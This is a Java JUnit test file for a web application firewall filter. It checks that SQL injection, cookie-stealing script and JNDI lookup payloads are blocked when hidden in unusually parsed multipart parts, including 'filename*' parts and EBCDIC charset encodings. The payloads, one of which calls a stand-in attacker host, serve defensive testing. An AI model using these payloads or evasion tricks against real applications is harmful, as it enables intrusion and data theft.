package dev.bulwark.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bulwark.core.config.BulwarkConfig;
import dev.bulwark.testsupport.MultipartBody;
import jakarta.servlet.ServletException;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.Part;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import org.eclipse.jetty.ee10.servlet.ServletContextHandler;
import org.eclipse.jetty.ee10.servlet.ServletHolder;
import org.junit.jupiter.api.Test;

/**
 * Where containers read a multipart body differently, the filter inspects every reading: a part
 * is inspected as a field unless every container treats it as a file (a part with only
 * {@code filename*} reaches some applications as the form field of its name), and a field in
 * every charset a container may decode it with.
 */
class MultipartDifferentialTest extends FilterContainerTest {

    private static final String BOUNDARY = "----bulwarkQ3fy8pXnR2";
    private static final String TYPE = "multipart/form-data; boundary=" + BOUNDARY;

    /** Answers with the parameters and parts the application sees. */
    private static final class PartsServlet extends HttpServlet {
        private static final long serialVersionUID = 1L;

        @Override
        protected void doPost(HttpServletRequest request, HttpServletResponse response) throws IOException {
            ObjectNode seen = JSON.createObjectNode();
            seen.putPOJO("parameters", request.getParameterMap());
            ArrayNode parts = seen.putArray("parts");
            try {
                for (Part part : request.getParts()) {
                    ObjectNode entry = parts.addObject();
                    entry.put("name", part.getName());
                    entry.put("fileName", part.getSubmittedFileName());
                    entry.put("sha256", RecordingServlet.sha256(part.getInputStream().readAllBytes()));
                }
            } catch (ServletException e) {
                seen.put("error", e.getMessage());
            }
            response.setContentType("application/json");
            response.getWriter().write(seen.toString());
        }
    }

    @Override
    BulwarkConfig config() {
        return BulwarkConfig.fromYaml("""
                limits: {body-size: 16KiB}
                deny-rules: {level: standard}
                """);
    }

    @Override
    void customize(ServletContextHandler context) {
        context.addServlet(new ServletHolder(new PartsServlet()), "/parts/*");
    }

    private static byte[] onePart(String disposition, String contentType, byte[] content) {
        return MultipartBody.onePart(BOUNDARY, disposition, contentType, content);
    }

    private HttpResponse<String> postExtendedFileNamePart(String payload) {
        return post("/parts/search", TYPE, onePart("form-data; name=\"q\"; filename*=UTF-8''a", null,
                payload.getBytes(StandardCharsets.UTF_8)));
    }

    private static void assertBlockedAndLoggedAtField(HttpResponse<String> response, String field) {
        JsonNode event = assertBlockedAndLogged(response);
        assertThat(event.get("bulwark.location").asText()).isEqualTo("multipart:" + field);
        assertThat(event.get("event.action").asText()).isEqualTo("blocked");
    }

    @Test
    void blocksUnionSelectInFilenameStarPart() {
        assertBlockedAndLoggedAtField(postExtendedFileNamePart("1' UNION SELECT password FROM users--"), "q");
    }

    @Test
    void blocksScriptTagInFilenameStarPart() {
        assertBlockedAndLoggedAtField(postExtendedFileNamePart("<script>alert(document.cookie)</script>"), "q");
    }

    @Test
    void blocksJndiLookupInFilenameStarPart() {
        assertBlockedAndLoggedAtField(postExtendedFileNamePart("${jndi:ldap://attacker.example/a}"), "q");
    }

    @Test
    void blocksUnionSelectInPartWithEmptyFileName() {
        HttpResponse<String> response = post("/parts/search", TYPE, onePart("form-data; name=\"q\"; filename=\"\"",
                null, "1' UNION SELECT password FROM users--".getBytes(StandardCharsets.UTF_8)));

        assertBlockedAndLoggedAtField(response, "q");
    }

    @Test
    void rejectsFileNameWithWhitespaceBeforeEqualsSign() {
        HttpResponse<String> response = post("/parts/search", TYPE, onePart("form-data; name=\"q\"; filename =\"a.png\"",
                null, "1' UNION SELECT password FROM users--".getBytes(StandardCharsets.UTF_8)));

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(json(response.body()).get("incidentId").asText()).hasSize(16);
    }

    @Test
    void passesAPlainFileUploadByteForByte() {
        byte[] png = new byte[1024];
        for (int i = 0; i < png.length; i++) {
            png[i] = (byte) (i * 31 + 7);
        }

        HttpResponse<String> response = post("/parts/upload", TYPE,
                onePart("form-data; name=\"avatar\"; filename=\"a.png\"", "image/png", png));

        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode seen = json(response.body());
        assertThat(seen.get("parts")).hasSize(1);
        assertThat(seen.get("parts").get(0).get("fileName").asText()).isEqualTo("a.png");
        assertThat(seen.get("parts").get(0).get("sha256").asText()).isEqualTo(RecordingServlet.sha256(png));
        assertThat(seen.get("parameters").size()).isZero();
    }

    @Test
    void replaysAFilenameStarPartAsTheFileContainersSeeInIt() {
        HttpResponse<String> response = post("/parts/upload", TYPE,
                onePart("form-data; name=\"doc\"; filename*=UTF-8''r%C3%A9sum%C3%A9.txt", null,
                        "plain text".getBytes(StandardCharsets.UTF_8)));

        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode seen = json(response.body());
        assertThat(seen.get("parts").get(0).get("fileName").asText()).isEqualTo("r\u00e9sum\u00e9.txt");
        assertThat(seen.get("parameters").size()).isZero();
    }


    @Test
    void blocksScriptTagEncodedInTheCharsetNamedByACharsetField() {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII));
        // EBCDIC: no byte of the payload is ASCII punctuation, and none is NUL.
        body.writeBytes("<script>alert(document.cookie)</script>".getBytes(Charset.forName("IBM037")));
        body.writeBytes(("\r\n--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\n"
                + "IBM037\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.US_ASCII));

        assertBlockedAndLoggedAtField(post("/parts/search", TYPE, body.toByteArray()), "q");
    }


    @Test
    void blocksScriptTagInAFieldLabelledWithACharsetThatHidesIt() {
        // Read as EBCDIC the payload is harmless; the replay and Tomcat ignore a part's charset.
        HttpResponse<String> response = post("/parts/search", TYPE, onePart("form-data; name=\"q\"",
                "text/plain; charset=IBM037", "<script>alert(document.cookie)</script>".getBytes(StandardCharsets.US_ASCII)));

        assertBlockedAndLoggedAtField(response, "q");
    }

}
